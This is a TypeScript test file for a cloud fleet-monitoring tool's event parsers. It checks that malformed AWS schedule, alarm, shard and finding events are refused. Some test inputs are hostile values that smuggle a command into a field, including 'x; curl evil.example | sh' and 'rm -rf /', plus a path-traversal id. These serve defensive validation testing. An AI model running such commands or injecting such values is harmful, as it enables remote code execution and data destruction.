import { readdirSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  ALARM_STATE_CHANGE,
  type AlarmStateChange,
  AlarmStateChangeSchema,
  alarmInstance,
} from '#shared/events/alarm.ts';
import { FINDING_DETAIL_TYPE, FINDING_SOURCE, FindingDetailSchema } from '#shared/events/finding.ts';
import { describeEvent, InvalidEventError, parseEvent } from '#shared/events/parse.ts';
import { SCHEDULE_TRIGGER, ScheduleTriggerSchema } from '#shared/events/schedule.ts';
import { SHARD_MESSAGE, ShardMessageSchema } from '#shared/events/shard.ts';
import { type Json, ROOT, readEvent } from '#test/support/handlers.ts';

const alarm = (file: string) => readEvent(`events/alarm-triage/${file}`) as Record<string, Json>;
const shardBody = () =>
  JSON.parse(
    (readEvent('events/scan-worker/shard.json') as { Records: { body: string }[] }).Records[0]?.body ?? '',
  ) as Record<string, Json>;

/** Expects `parse` to refuse `event` with a one-line message containing every fragment. */
function expectRefused(parse: () => unknown, ...fragments: string[]): void {
  let error: unknown;
  try {
    parse();
  } catch (caught) {
    error = caught;
  }
  expect(error).toBeInstanceOf(InvalidEventError);
  const message = (error as Error).message;
  expect(message).not.toContain('\n');
  for (const fragment of fragments) expect(message).toContain(fragment);
}

describe('schedule triggers', () => {
  it.each([
    [
      'scheduled-event.json',
      '53dc4d37-cffa-4f76-80c9-8b7d4a4d2eaa',
      '2015-10-08T16:53:06.000Z',
      'eventbridge-rule',
    ],
    [
      'scheduler-default-event.json',
      '4e6638b7-b892-4482-9762-8c58d4e71ecc',
      '2024-05-07T15:58:34.000Z',
      'eventbridge-rule',
    ],
    [
      'scheduler-input.json',
      '5b4c7f36-3f6e-4a8a-9d7e-0c1e2f3a4b5c',
      '2026-11-04T00:00:00.000Z',
      'eventbridge-scheduler',
    ],
  ])('%s is a scheduled run', (file, runId, scheduledAt, via) => {
    expect(
      parseEvent(ScheduleTriggerSchema, readEvent(`events/fleet-scan/${file}`), SCHEDULE_TRIGGER),
    ).toEqual({
      runId,
      scheduledAt,
      via,
    });
  });

  const scheduled = () => readEvent('events/fleet-scan/scheduled-event.json') as Record<string, Json>;
  it.each<[string, (e: Record<string, Json>) => unknown, string[]]>([
    [
      'a detail that is not empty',
      (e) => ({ ...e, detail: { instanceIds: ['i-12345678'] } }),
      ['event.detail'],
    ],
    ['a detail-type of the wrong type', (e) => ({ ...e, 'detail-type': 42 }), ['event["detail-type"]']],
    ['another source', (e) => ({ ...e, source: 'aws.ec2' }), ['event.source']],
    ['a time that is not one', (e) => ({ ...e, time: 'yesterday' }), ['event.time', 'ISO-8601']],
    [
      'an id with a path in it',
      (e) => ({ ...e, id: '../../etc/passwd' }),
      ['event.id', 'letters, digits or dashes'],
    ],
  ])('refuses a Scheduled Event with %s', (_, mutate, fragments) => {
    expectRefused(
      () => parseEvent(ScheduleTriggerSchema, mutate(scheduled()), SCHEDULE_TRIGGER),
      ...fragments,
    );
  });

  it('refuses Scheduler input with an unknown key or a hostile execution id', () => {
    const input = readEvent('events/fleet-scan/scheduler-input.json') as Record<string, unknown>;
    expectRefused(
      () => parseEvent(ScheduleTriggerSchema, { ...input, lookbackDays: 400 }, SCHEDULE_TRIGGER),
      'lookbackDays',
    );
    expectRefused(
      () =>
        parseEvent(
          ScheduleTriggerSchema,
          { ...input, executionId: 'x; curl evil.example | sh' },
          SCHEDULE_TRIGGER,
        ),
      'event.executionId',
    );
  });

  it('says when an event was meant for another function', () => {
    expectRefused(
      () => parseEvent(ScheduleTriggerSchema, alarm('single-metric.json'), SCHEDULE_TRIGGER),
      `expected ${SCHEDULE_TRIGGER}, got an EventBridge "CloudWatch Alarm State Change" event from "aws.cloudwatch"`,
    );
    expectRefused(
      () => parseEvent(ScheduleTriggerSchema, readEvent('events/scan-worker/shard.json'), SCHEDULE_TRIGGER),
      'got an SQS event',
    );
  });
});

describe('CloudWatch Alarm State Change', () => {
  const stateChanges = readdirSync(resolve(ROOT, 'events/alarm-triage')).filter(
    (f) => f !== 'configuration-change.json',
  );

  it.each(stateChanges)('%s parses', (file) => {
    const event = parseEvent(AlarmStateChangeSchema, alarm(file), ALARM_STATE_CHANGE);
    expect(event.resources[0]).toMatch(/^arn:aws:cloudwatch:us-east-1:123456789012:alarm:/);
  });

  it.each<[string, ReturnType<typeof alarmInstance>]>([
    ['single-metric.json', { found: 'dimension', instanceId: 'i-12345678901234567' }],
    ['metric-math.json', { found: 'dimension', instanceId: 'i-12345678901234567' }],
    ['anomaly-detection.json', { found: 'dimension', instanceId: 'i-12345678901234567' }],
    [
      'composite-with-suppressor.json',
      { found: 'none', reason: 'a composite alarm has no metric dimensions' },
    ],
    [
      'search-expression-tagged.json',
      { found: 'none', reason: 'none of the alarm metrics has an InstanceId dimension' },
    ],
  ])('%s names its instance as %j', (file, expected) => {
    expect(alarmInstance(parseEvent(AlarmStateChangeSchema, alarm(file), ALARM_STATE_CHANGE))).toEqual(
      expected,
    );
  });

  it('reports an alarm over two instances as ambiguous', () => {
    const event = alarm('metric-math.json');
    event.detail.configuration.metrics[2].metricStat.metric.dimensions.InstanceId = 'i-0c0ffee0000000001';
    expect(
      alarmInstance(parseEvent(AlarmStateChangeSchema, event, ALARM_STATE_CHANGE) as AlarmStateChange),
    ).toEqual({
      found: 'ambiguous',
      instanceIds: ['i-0c0ffee0000000001', 'i-12345678901234567'],
    });
  });

  const dimensions = (e: Record<string, Json>) =>
    e.detail.configuration.metrics[0].metricStat.metric.dimensions;
  it.each<[string, (e: Record<string, Json>) => void, string[]]>([
    [
      'a shell command in the InstanceId',
      (e) => {
        dimensions(e).InstanceId = 'i-12345678901234567; rm -rf /';
      },
      [
        'event.detail.configuration.metrics[0].metricStat.metric.dimensions.InstanceId: is not an EC2 instance id',
      ],
    ],
    [
      'a line break in the InstanceId',
      (e) => {
        dimensions(e).InstanceId = 'i-12345678901234567\n';
      },
      ['dimensions.InstanceId'],
    ],
    [
      'an InstanceId that is a number',
      (e) => {
        dimensions(e).InstanceId = 12345678;
      },
      ['dimensions.InstanceId'],
    ],
    [
      'a control character in another dimension',
      (e) => {
        dimensions(e).AutoScalingGroupName = 'web\u001b[2J';
      },
      ['control characters'],
    ],
    [
      '31 dimensions',
      (e) => {
        for (let i = 0; i < 31; i += 1) dimensions(e)[`d${i}`] = 'x';
      },
      ['more than 30 dimensions'],
    ],
    [
      'a line break in the alarm name',
      (e) => {
        e.detail.alarmName = 'ok\nforged log line';
      },
      ['event.detail.alarmName', 'control characters'],
    ],
    [
      'a state that does not exist',
      (e) => {
        e.detail.state.value = 'ALARMING';
      },
      ['event.detail.state.value'],
    ],
    [
      'a resource that is not an alarm',
      (e) => {
        e.resources = ['arn:aws:ec2:us-east-1:123456789012:instance/i-12345678901234567'];
      },
      ['event.resources[0]', 'alarm ARN'],
    ],
    [
      'two resources',
      (e) => {
        e.resources.push(e.resources[0]);
      },
      ['event.resources'],
    ],
    [
      'no detail',
      (e) => {
        delete e.detail;
      },
      ['event.detail'],
    ],
    [
      'an account that is not one',
      (e) => {
        e.account = '1234';
      },
      ['event.account'],
    ],
  ])('refuses an alarm event with %s', (_, mutate, fragments) => {
    const event = alarm('single-metric.json');
    mutate(event);
    expectRefused(() => parseEvent(AlarmStateChangeSchema, event, ALARM_STATE_CHANGE), ...fragments);
  });

  it.each<[string, unknown, string]>([
    [
      'a configuration change',
      readEvent('test/fixtures/bad-events/alarm-configuration-change.json'),
      'got an EventBridge "CloudWatch Alarm Configuration Change" event',
    ],
    [
      'a Lambda alarm-action payload',
      readEvent('test/fixtures/events/aws-lambda-java-libs/cloudwatch_metric_alarm.json'),
      'got a CloudWatch alarm-action payload (not the EventBridge format)',
    ],
    [
      'the composite alarm-action payload',
      readEvent('test/fixtures/events/aws-lambda-java-libs/cloudwatch_composite_alarm.json'),
      'alarm-action payload',
    ],
    [
      'the hybrid with alarmData in an EventBridge envelope',
      readEvent(
        'test/fixtures/events/aws-lambda-rust-runtime/example-cloudwatch-alarm-composite-with-suppressor-alarm.json',
      ),
      'event.detail',
    ],
    [
      'a Scheduled Event',
      readEvent('events/fleet-scan/scheduled-event.json'),
      'got an EventBridge "Scheduled Event" event from "aws.events"',
    ],
    ['null', null, 'got not a JSON object (null)'],
    ['an array', [], 'got not a JSON object (an array)'],
    ['a string', 'ALARM', 'got not a JSON object (string)'],
  ])('refuses %s', (_, event, fragment) => {
    expectRefused(() => parseEvent(AlarmStateChangeSchema, event, ALARM_STATE_CHANGE), fragment);
  });
});

describe('shard messages', () => {
  it('parses the sample shard', () => {
    const shard = parseEvent(ShardMessageSchema, shardBody(), SHARD_MESSAGE);
    expect(shard.instances.map((i) => i.instanceId)).toContain('i-12345678901234567');
  });

  const first = (m: Record<string, Json>) => m.instances[0];
  it.each<[string, (m: Record<string, Json>) => void, string[]]>([
    [
      'an instance id that is not one',
      (m) => {
        first(m).instanceId = 'i-1; reboot';
      },
      ['event.instances[0].instanceId'],
    ],
    [
      'another instance in a dimension',
      (m) => {
        first(m).metrics['network-out'][0].value = 'i-0c0ffee0000000001';
      },
      ['event.instances[0].metrics["network-out"]', 'not a NetworkOut dimension set of i-12345678901234567'],
    ],
    [
      'an extra NetworkOut dimension',
      (m) => {
        first(m).metrics['network-out'].push({ name: 'InstanceType', value: 'm5.large' });
      },
      ['metrics["network-out"]'],
    ],
    [
      'a procstat series of another process',
      (m) => {
        first(m).metrics['s3fs-rss'][1].value = 'nginx';
      },
      ['metrics["s3fs-rss"]', 'procstat_memory_rss'],
    ],
    [
      'a dimension named twice',
      (m) => {
        first(m).metrics['mem-used-percent'].push({ name: 'InstanceId', value: 'i-12345678901234567' });
      },
      ['names a dimension twice'],
    ],
    [
      'a dimension value with a line break',
      (m) => {
        first(m).metrics['s3fs-rss'][1].value = 's3fs\nX';
      },
      ['control characters'],
    ],
    [
      'an unknown metric kind',
      (m) => {
        first(m).metrics.cpu = [{ name: 'InstanceId', value: 'i-12345678901234567' }];
      },
      ['cpu'],
    ],
    [
      'an instance listed twice',
      (m) => {
        m.instances.push(first(m));
      },
      ['lists an instance twice'],
    ],
    [
      'a shard index past the count',
      (m) => {
        m.shard.index = 1;
      },
      ['event.shard.index'],
    ],
    [
      'a window that ends before it starts',
      (m) => {
        m.window.end = '2026-10-01T00:00:00.000Z';
      },
      ['ends before it starts'],
    ],
    [
      'a 60-second period',
      (m) => {
        m.window.periodSeconds = 60;
      },
      ['event.window.periodSeconds'],
    ],
    [
      'another kind',
      (m) => {
        m.kind = 'crawlguard.finding';
      },
      ['event.kind'],
    ],
    [
      'a version from the future',
      (m) => {
        m.schemaVersion = 2;
      },
      ['event.schemaVersion'],
    ],
    [
      'no instances',
      (m) => {
        m.instances = [];
      },
      ['event.instances'],
    ],
  ])('refuses a shard with %s', (_, mutate, fragments) => {
    const message = shardBody();
    mutate(message);
    expectRefused(() => parseEvent(ShardMessageSchema, message, SHARD_MESSAGE), ...fragments);
  });
});

describe('findings', () => {
  const files = readdirSync(resolve(ROOT, 'events/findings'));

  it.each(files)('%s is a crawlguard.finding event whose detail matches the schema', (file) => {
    const event = readEvent(`events/findings/${file}`) as Record<string, Json>;
    expect(event.source).toBe(FINDING_SOURCE);
    expect(event['detail-type']).toBe(FINDING_DETAIL_TYPE);
    const detail = FindingDetailSchema.parse(event.detail);
    expect(event.resources).toEqual([`arn:aws:ec2:us-east-1:123456789012:instance/${detail.instanceId}`]);
    expect(detail.evidence.networkOut?.verdict ?? detail.evidence.memUsedPercent?.verdict).toBeDefined();
  });

  it('covers every finding kind and both triggers', () => {
    const details = files.map(
      (file) =>
        (readEvent(`events/findings/${file}`) as { detail: { kind: string; trigger: { type: string } } })
          .detail,
    );
    expect(new Set(details.map((d) => d.kind))).toEqual(
      new Set(['updatedb-crawl', 'daily-network-burst', 'memory-growth']),
    );
    expect(new Set(details.map((d) => d.trigger.type))).toEqual(new Set(['schedule', 'alarm']));
  });
});

describe('versions and instants', () => {
  const schedulerInput = () => readEvent('events/fleet-scan/scheduler-input.json') as Record<string, Json>;
  const finding = () => (readEvent('events/findings/updatedb-crawl-cron.json') as { detail: Json }).detail;

  it.each<[string, () => unknown, string]>([
    [
      'the Scheduler input',
      () => parseEvent(ScheduleTriggerSchema, { ...schedulerInput(), schemaVersion: '1' }, SCHEDULE_TRIGGER),
      'event.schemaVersion: Invalid input: expected 1, got "1"',
    ],
    [
      'a finding',
      () => parseEvent(FindingDetailSchema, { ...finding(), schemaVersion: '1' }, 'a crawlguard finding'),
      'event.schemaVersion: Invalid input: expected 1, got "1"',
    ],
    [
      'a shard',
      () => parseEvent(ShardMessageSchema, { ...shardBody(), schemaVersion: '1' }, SHARD_MESSAGE),
      'event.schemaVersion: Invalid input: expected 1, got "1"',
    ],
  ])('a string schemaVersion in %s is named as such', (_name, parse, fragment) => {
    expectRefused(parse, fragment);
  });

  it('names the field of the closest branch of a union, not a field of another branch', () => {
    let message = '';
    try {
      parseEvent(ScheduleTriggerSchema, { ...schedulerInput(), schemaVersion: '1' }, SCHEDULE_TRIGGER);
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).not.toContain('event.version');
  });

  const instants: [string, (e: Record<string, Json>, value: string) => unknown, string][] = [
    [
      'Scheduler input',
      (e, value) => parseEvent(ScheduleTriggerSchema, { ...e, scheduledTime: value }, SCHEDULE_TRIGGER),
      'event.scheduledTime',
    ],
    [
      'a Scheduled Event',
      (_e, value) =>
        parseEvent(
          ScheduleTriggerSchema,
          { ...(readEvent('events/fleet-scan/scheduled-event.json') as object), time: value },
          SCHEDULE_TRIGGER,
        ),
      'event.time',
    ],
    [
      'an alarm event',
      (_e, value) =>
        parseEvent(
          AlarmStateChangeSchema,
          { ...alarm('single-metric.json'), time: value },
          ALARM_STATE_CHANGE,
        ),
      'event.time',
    ],
    [
      'a finding',
      (_e, value) =>
        parseEvent(FindingDetailSchema, { ...finding(), detectedAt: value }, 'a crawlguard finding'),
      'event.detectedAt',
    ],
  ];
  it.each(
    instants.flatMap(([where, parse, path]) =>
      (
        [
          ['2026-02-30T00:00:00Z', 'is not an ISO-8601 instant'],
          ['2025-02-29T12:00:00Z', 'is not an ISO-8601 instant'],
          ['2026-01-01T24:00:00Z', 'is not an ISO-8601 instant'],
          ['0000-01-01T00:00:00Z', 'is outside the years 2000–2100'],
          ['9999-12-31T23:59:59Z', 'is outside the years 2000–2100'],
          ['1999-12-31T23:59:59Z', 'is outside the years 2000–2100'],
          ['2101-01-01T00:00:00Z', 'is outside the years 2000–2100'],
        ] as const
      ).map(([value, problem]) => [where, value, parse, path, problem] as const),
    ),
  )('refuses %s at %s', (_where, value, parse, path, problem) => {
    expectRefused(() => parse(schedulerInput(), value), `${path}: ${problem}`);
  });

  it.each(['2000-01-01T00:00:00Z', '2024-02-29T06:25:00+0000', '2100-12-31T23:59:59.999Z'])(
    'accepts %s',
    (value) => {
      const run = parseEvent(
        ScheduleTriggerSchema,
        { ...schedulerInput(), scheduledTime: value },
        SCHEDULE_TRIGGER,
      );
      expect(run.scheduledAt).toBe(new Date(Date.parse(value.replace('+0000', 'Z'))).toISOString());
    },
  );
});

describe('describeEvent', () => {
  it.each<[unknown, string]>([
    [{ Records: [{ eventSource: 'aws:sqs' }] }, 'an SQS event'],
    [{ Records: [{ EventSource: 'aws:sns' }] }, 'a Records event from "aws:sns"'],
    [{ crawlguard: 'fleet-scan' }, 'crawlguard input "fleet-scan"'],
    [{}, 'an empty object'],
    [{ a: 1, b: 2 }, 'an object with keys "a, b"'],
    [42, 'not a JSON object (number)'],
  ])('%j is %s', (event, description) => {
    expect(describeEvent(event)).toBe(description);
  });
});
